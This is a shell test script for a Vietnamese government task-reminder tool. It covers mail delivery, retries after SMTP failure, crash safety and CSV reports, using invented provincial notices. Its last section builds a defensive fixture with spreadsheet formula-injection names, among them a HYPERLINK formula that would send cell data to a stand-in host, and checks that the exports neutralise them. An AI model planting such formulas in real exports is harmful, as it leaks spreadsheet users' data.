#!/bin/sh
# t_remind.sh - the reminder engine and the weekly mail end to end, against
# a real SMTP server on loopback (Debian's python3-aiosmtpd with its Maildir
# handler), started and stopped here.  The received mail is read back with
# Python's email package (Debian's /usr/bin/python3).
#
# Checks: reminders reach the right units with a decoded Vietnamese
# subject; a second run sends nothing; the escalation goes to the office;
# with the server down nothing is marked sent and the next run sends it;
# the weekly office mail carries the CSV (UTF-8 with BOM); and kill -9 at
# random points of a run, then a clean run, sends every reminder exactly
# once.  Prints "ok - ..." / "not ok - ..." per assertion.

. "$(dirname "$0")/lib.sh"
t_setup t_remind
cd "$T" || exit 2

count_mail() { ls "$1/new" 2>/dev/null | wc -l | tr -d ' '; }

# Two notices written for this test, with deadlines around 2026-11-23.
cat >a.txt <<'EOF'
UBND TỈNH BÌNH SƠN
VĂN PHÒNG
Số: 501/TB-VP
Bình Sơn, ngày 02 tháng 11 năm 2026

THÔNG BÁO
Kết luận của Chủ tịch UBND tỉnh tại cuộc họp giao ban tháng 11 năm 2026

1. Giao Sở Nội vụ chủ trì, phối hợp với Sở Tài chính rà soát vị trí việc làm, báo cáo UBND tỉnh chậm nhất ngày 30/11/2026.
2. Giao Sở Tư pháp hoàn thành thẩm định dự thảo quy chế phối hợp, xong trước ngày 01/10/2026.
3. Giao Sở Tài chính tổng hợp dự toán ngân sách năm 2027, báo cáo UBND tỉnh chậm nhất ngày 24/11/2026.

Nơi nhận:
- Như trên;
- Lưu: VT.

KT. CHÁNH VĂN PHÒNG
PHÓ CHÁNH VĂN PHÒNG
Trần Văn Bình
EOF
cat >b.txt <<'EOF'
UBND TỈNH BÌNH SƠN
VĂN PHÒNG
Số: 502/TB-VP
Bình Sơn, ngày 10 tháng 11 năm 2026

THÔNG BÁO
Ý kiến chỉ đạo của Chủ tịch UBND tỉnh về công tác chuyển đổi số

1. Giao Sở Thông tin và Truyền thông xây dựng kế hoạch chuyển đổi số năm 2027, trình UBND tỉnh chậm nhất ngày 30/11/2026.

Nơi nhận:
- Như trên;
- Lưu: VT.

KT. CHÁNH VĂN PHÒNG
PHÓ CHÁNH VĂN PHÒNG
Trần Văn Bình
EOF

DB="$T/r.db"
MB="$T/mail"
smtp_start "$MB"
tr_ --db "$DB" import --today 2026-11-20 a.txt
check "the test notice imports" rc_is 0
tr_ --db "$DB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "remind exits 0 with the server up" rc_is 0
check "three mails: Sở Nội vụ (7 days before), Sở Tài chính (1 day before), the office (escalation) and Sở Tư pháp (overdue)" \
	test "$(count_mail "$MB")" = 4
check "Sở Nội vụ's mail reaches its address, with the subject decoded" \
	py_mail "$MB" 'any(rcpt(m) == "sonoivu@binhson.example" and str(m["Subject"]).startswith("Nhắc việc — Sở Nội vụ") and "rà soát vị trí việc làm" in body(m) and "Còn 7 ngày" in body(m) for m in msgs)'
check "the reminder names the notice and the deadline as written and links the task" \
	py_mail "$MB" 'any(rcpt(m) == "sonoivu@binhson.example" and "số 501/TB-VP ngày 02/11/2026" in body(m) and "30/11/2026 (chậm nhất ngày 30/11/2026)" in body(m) and "http://127.0.0.1:8080/tasks/" in body(m) for m in msgs)'
check "Sở Tư pháp is told its work is overdue" \
	py_mail "$MB" 'any(rcpt(m) == "sotuphap@binhson.example" and "Quá hạn 54 ngày" in body(m) for m in msgs)'
check "the office gets the escalation (overdue more than 14 days)" \
	py_mail "$MB" 'any(rcpt(m) == "vanphong@binhson.example" and "quá hạn trên 14 ngày" in str(m["Subject"]) and "Sở Tư pháp" in body(m) for m in msgs)'
check "mails are multipart/alternative with a Message-ID and a Date" \
	py_mail "$MB" 'all(m.get_content_type() == "multipart/alternative" and m["Message-ID"] and m["Date"] for m in msgs)'

tr_ --db "$DB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "a second run the same day sends nothing" eval 'rc_is 0 && test "$(count_mail "$MB")" = 4'
tr_ --db "$DB" remind --today 2026-11-24 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "the next day only Sở Tài chính's due-today reminder goes out" \
	eval 'rc_is 0 && test "$(count_mail "$MB")" = 5'
check "and it says the work is due today" \
	py_mail "$MB" 'sum(rcpt(m) == "sotaichinh@binhson.example" for m in msgs) == 2 and any("Đến hạn hôm nay" in body(m) for m in msgs if rcpt(m) == "sotaichinh@binhson.example")'

# ---- the server down: nothing is marked sent; the next run sends ---------
smtp_stop
tr_ --db "$DB" import --today 2026-11-23 b.txt
tr_ --db "$DB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "with the server down remind exits 74 and says so" \
	eval 'rc_is 74 && grep -q "failed" "$T/out"'
check "nothing is marked sent" \
	test "$(sqlite3 "$DB" "select count(*) from mails where status = 'pending'")" = 1
smtp_start "$MB"
tr_ --db "$DB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "the next run sends the queued mail" \
	eval 'rc_is 0 && test "$(count_mail "$MB")" = 6 && test "$(sqlite3 "$DB" "select count(*) from mails where status = '"'"'pending'"'"'")" = 0'
check "to Sở Thông tin và Truyền thông" \
	py_mail "$MB" 'any(rcpt(m) == "sotttt@binhson.example" or "Thông tin và Truyền thông" in str(m["Subject"]) for m in msgs)'

# ---- the weekly mail -----------------------------------------------------
tr_ --db "$DB" done --task 1 --unit "Sở Nội vụ" --on 2026-11-23 --today 2026-11-23
check "a unit reports done" rc_is 0
tr_ --db "$DB" report --weekly --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "report --weekly exits 0" rc_is 0
check "the office's weekly mail has the table as a CSV attachment with a BOM" \
	py_mail "$MB" 'any(rcpt(m) == "vanphong@binhson.example" and str(m["Subject"]).startswith("Tổng hợp tình hình thực hiện nhiệm vụ tuần 48") and any(a.get_filename() == "tong-hop-nhiem-vu.csv" and a.get_content().startswith("\ufeffĐơn vị,Tổng số") if isinstance(a.get_content(), str) else a.get_content().startswith("\ufeffĐơn vị".encode()) for a in m.iter_attachments()) for m in msgs)'
check "Sở Nội vụ's weekly mail lists its work awaiting confirmation" \
	py_mail "$MB" 'any(rcpt(m) == "sonoivu@binhson.example" and "Báo cáo nhiệm vụ tuần 48" in str(m["Subject"]) and "chờ xác nhận" in body(m) for m in msgs)'
check "Sở Tư pháp's weekly mail lists its overdue work with the days" \
	py_mail "$MB" 'any(rcpt(m) == "sotuphap@binhson.example" and "Báo cáo nhiệm vụ tuần" in str(m["Subject"]) and "Quá hạn 54 ngày" in body(m) for m in msgs)'
n=$(count_mail "$MB")
tr_ --db "$DB" report --weekly --today 2026-11-25 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "a second weekly run in the same week sends nothing" \
	eval 'rc_is 0 && test "$(count_mail "$MB")" = "$n"'
tr_ --db "$DB" report --table --csv --today 2026-11-23
check "report --table --csv starts with the BOM and the Vietnamese header" \
	eval 'rc_is 0 && head -c 20 "$T/out" | od -An -c | grep -q "357 273 277"'

# ---- kill -9 at random points, then a clean run: each reminder at least once
# SMTP has no idempotency: the server stores a mail before it answers 250,
# and a kill between that answer and the commit that marks the mail sent
# sends it again on the next run.  The promise (README) is at least once,
# with the same Message-ID and bytes, so receivers drop the copy; and a copy
# only of a mail whose delivery a kill interrupted.
smtp_stop
KB="$T/killmail"
KDB="$T/k.db"
smtp_start "$KB"
tr_ --db "$KDB" import --today 2026-11-01 "$TOP/sample-data" a.txt b.txt
check "the crash test's database imports" rc_is 0
for delay in 0.05 0.15 0.3 0.45 0.7 1.0 0.25; do
	"$TRACKER" --db "$KDB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT" \
		>/dev/null 2>>"$T/killed.err" &
	pid=$!
	sleep "$delay"
	kill -9 "$pid" 2>/dev/null
	wait "$pid" 2>/dev/null
done
san_check "$T/killed.err" "tracker remind (killed with -9)"
tr_ --db "$KDB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "after the kills, a clean run exits 0" rc_is 0
check "every reminder decided is in a mail that was sent (or skipped for want of an address)" \
	test "$(sqlite3 "$KDB" "select count(*) from reminders r left join mails m on m.id = r.mail_id where r.skipped = 0 and (m.status is null or m.status <> 'sent')")" = 0
sqlite3 "$KDB" "select message_id from mails order by 1" >"$T/db_ids"
check "the server got every queued mail, and no mail that was not queued" \
	py_mail "$KB" 'sorted(set(str(m["Message-ID"]) for m in msgs)) == [l.strip() for l in open("'"$T/db_ids"'") if l.strip()] and len(msgs) > 10'
# aiosmtpd adds X-Peer (the client's port) and its envelope headers: the
# rest of a copy must be the same message.
check "a mail the server got twice is the same message, at most one copy per kill" \
	py_mail "$KB" 'len(msgs) - len(set(str(m["Message-ID"]) for m in msgs)) <= 7 and all(len(set(b"".join(l for l in m.as_bytes().splitlines(True) if not l.startswith((b"X-Peer", b"X-MailFrom", b"X-RcptTo"))) for m in msgs if str(m["Message-ID"]) == i)) == 1 for i in set(str(m["Message-ID"]) for m in msgs))'
n=$(count_mail "$KB")
tr_ --db "$KDB" remind --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "and a further run sends nothing" \
	eval 'rc_is 0 && test "$(count_mail "$KB")" = "$n"'
smtp_stop

# ---- inside `tracker serve`: a run at start, then daily ---------------------
SDB="$T/s.db"
SB="$T/smail"
smtp_start "$SB"
tr_ --db "$SDB" import --today 2026-11-20 a.txt
# Starts serve on a free port; waits for its first scheduled run (or exit).
serve_once() {
	srv_start "$T/serve.err" "$SDB" --today 2026-11-23 --remind-at 06:30 \
		--smtp "smtp://127.0.0.1:$SMTP_PORT"
	i=0
	while [ $i -lt 600 ] && ! grep -q '^tracker: schedule 2026-11-23:' "$T/serve.err"; do
		kill -0 "$SRV_PID" 2>/dev/null || break
		sleep 0.1
		i=$((i + 1))
	done
	srv_stop TERM
	SRC=$srv_rc
}
serve_once
check "serve runs the reminders at start and stops cleanly" \
	eval 'test $SRC = 0 && grep -q "daily at 06:30" "$T/serve.err" && grep -q "^tracker: schedule 2026-11-23: [1-9][0-9]* reminder" "$T/serve.err"'
check "the scheduled run mailed the reminders and the weekly mail" \
	eval 'test "$(sqlite3 "$SDB" "select count(*) from mails where status = '"'sent'"'")" = "$(count_mail "$SB")" && test "$(sqlite3 "$SDB" "select count(*) from mails where kind like '"'weekly%'"'")" -gt 0'
before=$(count_mail "$SB")
serve_once
check "a restart the same day sends nothing again" \
	eval 'test $SRC = 0 && grep -q "^tracker: schedule 2026-11-23: 0 reminder(s) decided, 0 weekly" "$T/serve.err" && test "$(count_mail "$SB")" = "$before"'
smtp_stop

# ---- the daily run: what the last run recorded is not looked up again, ----
# but work created or reopened after it is reminded even when its slot is
# older than that run (own database, mail into an outbox).
cat >c.txt <<'EOF'
UBND TỈNH BÌNH SƠN
VĂN PHÒNG
Số: 503/TB-VP
Bình Sơn, ngày 16 tháng 11 năm 2026

THÔNG BÁO
Ý kiến chỉ đạo của Chủ tịch UBND tỉnh về y tế và xây dựng

1. Giao Sở Y tế báo cáo tình hình dịch bệnh, chậm nhất ngày 20/11/2026.
2. Giao Sở Xây dựng rà soát quy hoạch khu dân cư, báo cáo chậm nhất ngày 30/11/2026.

Nơi nhận:
- Như trên;
- Lưu: VT.

KT. CHÁNH VĂN PHÒNG
PHÓ CHÁNH VĂN PHÒNG
Trần Văn Bình
EOF
NDB="$T/n.db"
OB="$T/outbox"
n_eml() { ls "$OB" 2>/dev/null | grep -c '\.eml$'; }
n_rem() { sqlite3 "$NDB" "select count(*) from reminders"; }
# rem_of UNIT: the reminders recorded for that unit's work, as kind:slot.
rem_of() {
	sqlite3 "$NDB" "select group_concat(r.kind || ':' || r.slot, ' ') from reminders r
		join occurrences o on o.id = r.occurrence_id join assignments a on a.id = o.assignment_id
		join units u on u.id = a.unit_id where u.name = '$1'"
}
tr_ --db "$NDB" import --today 2026-11-20 a.txt
tr_ --db "$NDB" remind --today 2026-11-23 --outbox "$OB"
check "a run into an outbox" eval 'rc_is 0 && test "$(n_eml)" = 4'
r1=$(n_rem)
tr_ --db "$NDB" remind --today 2026-11-23 --outbox "$OB"
check "a second run the same day records and sends nothing new" \
	eval 'rc_is 0 && test "$(n_eml)" = 4 && test "$(n_rem)" = "$r1"'
tr_ --db "$NDB" import --today 2026-11-23 c.txt
tr_ --db "$NDB" done --task 5 --unit "Sở Xây dựng" --on 2026-11-23 --today 2026-11-23 &&
	tr_ --db "$NDB" confirm --task 5 --unit "Sở Xây dựng" --today 2026-11-23
check "work imported after the run; one item done and confirmed" rc_is 0
tr_ --db "$NDB" remind --today 2026-11-24 --outbox "$OB"
check "the next day, work imported after the last run with a slot before it (due 20/11) is reminded" \
	eval 'rc_is 0 && test "$(rem_of "Sở Y tế")" = "due:0" && grep -l "soyte@binhson.example" "$OB"/*.eml | grep -q .'
check "work done at the time is not" test -z "$(rem_of "Sở Xây dựng")"
check "and the work the last run reminded is not reminded again (Sở Nội vụ still 6 days out)" \
	test "$(rem_of "Sở Nội vụ")" = "before:-7"
r2=$(n_rem)
e2=$(n_eml)
tr_ --db "$NDB" remind --today 2026-11-24 --outbox "$OB"
check "a second run that day records and sends nothing new" \
	eval 'rc_is 0 && test "$(n_eml)" = "$e2" && test "$(n_rem)" = "$r2"'
tr_ --db "$NDB" reopen --task 5 --unit "Sở Xây dựng" --note "Cần bổ sung số liệu" --today 2026-11-25
tr_ --db "$NDB" remind --today 2026-11-25 --outbox "$OB"
check "work reopened after the last run gets the reminder of a slot before that run (7 days before 30/11)" \
	eval 'rc_is 0 && test "$(rem_of "Sở Xây dựng")" = "before:-7" && grep -l "soxaydung@binhson.example" "$OB"/*.eml | grep -q .'
# Under 5,1 the last run (11-25, 5 days out) would have picked "5 days
# before" too, but it ran under the default rules and did not record it.
tr_ --db "$NDB" remind --today 2026-11-26 --before 5,1 --outbox "$OB"
check "a run under other rules than the last one looks at every pick again" \
	eval 'rc_is 0 && test "$(rem_of "Sở Nội vụ")" = "before:-7 before:-5"'


# ---- the units file changes: every command sees the file as it is now ----
# Regression: import, units and serve wrote the directory into the database
# but remind, report and feed only read it, so after an address changed in
# the file remind still mailed the old one from the database.
UDB="$T/u.db"
UB="$T/umail"
tr_ --db "$UDB" import --today 2026-11-20 a.txt
# new-units.json: one address changed.  renamed-units.json: that, and the
# office renamed with a new address, and a group added.
$PY - "$TOP/sample-data/units.json" "$T" <<'PYEOF'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
def save(name):
    json.dump(d, open(sys.argv[2] + "/" + name, "w", encoding="utf-8"), ensure_ascii=False, indent=1)
for u in d["units"]:
    if u["name"] == "Sở Nội vụ":
        u["email"] = "sonoivu.moi@binhson.example"
save("new-units.json")
for u in d["units"]:
    if u["name"] == "Văn phòng UBND tỉnh":
        u["name"] = "Văn phòng Ủy ban nhân dân tỉnh"
        u["aliases"].append("Văn phòng UBND tỉnh")
        u["email"] = "vanphong.moi@binhson.example"
d["office"] = "Văn phòng Ủy ban nhân dân tỉnh"
for g in d["groups"]:
    g["members"] = ["Văn phòng Ủy ban nhân dân tỉnh" if m == "Văn phòng UBND tỉnh" else m
                    for m in g["members"]]
d["groups"].append({"name": "Khối nội chính", "members": ["Sở Nội vụ", "Sở Tư pháp"]})
save("renamed-units.json")
PYEOF
smtp_start "$UB"
tr_ --db "$UDB" remind --units "$T/new-units.json" --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "remind --units NEW.json exits 0" rc_is 0
check "the reminder goes To: the address the units file has now" \
	py_mail "$UB" 'any(rcpt(m) == "sonoivu.moi@binhson.example" and m["To"].addresses[0].addr_spec == "sonoivu.moi@binhson.example" and str(m["Subject"]).startswith("Nhắc việc — Sở Nội vụ") for m in msgs)'
check "and not to the address the database had before" \
	py_mail "$UB" 'not any("sonoivu@binhson.example" in (rcpt(m) + str(m["To"])) for m in msgs)'
tr_ --db "$UDB" report --weekly --units "$T/renamed-units.json" --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "report --weekly --units RENAMED.json exits 0" rc_is 0
check "the unit's weekly mail goes to its new address" \
	py_mail "$UB" 'any(rcpt(m) == "sonoivu.moi@binhson.example" and "Báo cáo nhiệm vụ tuần 48" in str(m["Subject"]) for m in msgs)'
check "the office's weekly mail goes to its new address and names it as the file does now" \
	py_mail "$UB" 'any(rcpt(m) == "vanphong.moi@binhson.example" and str(m["Subject"]).startswith("Tổng hợp tình hình") and "Văn phòng Ủy ban nhân dân tỉnh" in body(m) for m in msgs)'
smtp_stop
tr_ --db "$UDB" feed --office --units "$T/renamed-units.json" --today 2026-11-23
check "feed --office finds the office by its new name" \
	eval 'rc_is 0 && grep -q "BEGIN:VCALENDAR" "$T/out"'
tr_ --db "$UDB" feed --unit "Khối nội chính" --units "$T/renamed-units.json" --today 2026-11-23
check "feed serves the group the file added" \
	eval 'rc_is 0 && grep -q "^X-WR-CALNAME:.*Khối nội chính" "$T/out"'

# ---- the formula guard in every CSV the office gets ------------------------
# A units file whose names a spreadsheet would run as formulas (= + - @ first;
# the notices name the units by their former names, now aliases): the weekly
# mail's attachment and `report --table --csv` carry each one as text, with a
# leading apostrophe, and the counts stay plain numbers.
$PY - "$TOP/sample-data/units.json" >guard.json <<'EOF'
import json, sys
d = json.load(open(sys.argv[1]))
new = {"Sở Tư pháp": '=HYPERLINK("http://x.example/?"&A1,"Sở Tư pháp")',
       "Sở Nội vụ": "-Sở Nội vụ", "Sở Tài chính": "@Sở Tài chính",
       "Sở Thông tin và Truyền thông": "+Sở Thông tin và Truyền thông"}
for u in d["units"]:
    if u["name"] in new:
        u["aliases"] = u.get("aliases", []) + [u["name"]]
        u["name"] = new[u["name"]]
json.dump(d, sys.stdout, ensure_ascii=False)
EOF
# csv_guarded FILE: the table CSV in FILE has each of those names guarded,
# no cell a spreadsheet would run, and counts as bare numbers.
csv_guarded() {
	$PY - "$1" <<'EOF'
import csv, io, re, sys
text = open(sys.argv[1], "rb").read().decode("utf-8")
rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
want = {"'=HYPERLINK(\"http://x.example/?\"&A1,\"Sở Tư pháp\")", "'-Sở Nội vụ",
        "'@Sở Tài chính", "'+Sở Thông tin và Truyền thông"}
names = {r[0] for r in rows[1:]}
bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
nums = all(re.fullmatch(r"\d+", c) for r in rows[1:] for c in r[1:9])
ok = text.startswith("\ufeff") and want <= names and not bad and nums
if not ok:
    print("#   names %r, unguarded %r" % (sorted(names), bad), file=sys.stderr)
sys.exit(0 if ok else 1)
EOF
}
GDB="$T/g.db"
GB="$T/gmail"
smtp_start "$GB"
tr_ --db "$GDB" --units guard.json import --today 2026-11-20 a.txt b.txt
check "notices import under a units file with formula-like names" rc_is 0
tr_ --db "$GDB" --units guard.json report --table --csv --today 2026-11-23
check "report --table --csv writes such unit names as text (leading apostrophe)" \
	eval 'rc_is 0 && csv_guarded "$T/out"'
tr_ --db "$GDB" --units guard.json report --weekly --today 2026-11-23 --smtp "smtp://127.0.0.1:$SMTP_PORT"
check "report --weekly sends the office's mail" rc_is 0
# The attachment as the office's mail program decodes it.
$PY - "$GB" >"$T/att.csv" <<'EOF'
import email, email.policy, mailbox, sys
box = mailbox.Maildir(sys.argv[1], factory=None, create=False)
for k in box.keys():
    m = email.message_from_bytes(box.get_bytes(k), policy=email.policy.default)
    for a in m.iter_attachments():
        if a.get_filename() == "tong-hop-nhiem-vu.csv":
            sys.stdout.buffer.write(a.get_payload(decode=True))
EOF
check "the weekly mail's CSV attachment writes them as text too" csv_guarded "$T/att.csv"
smtp_stop

t_done
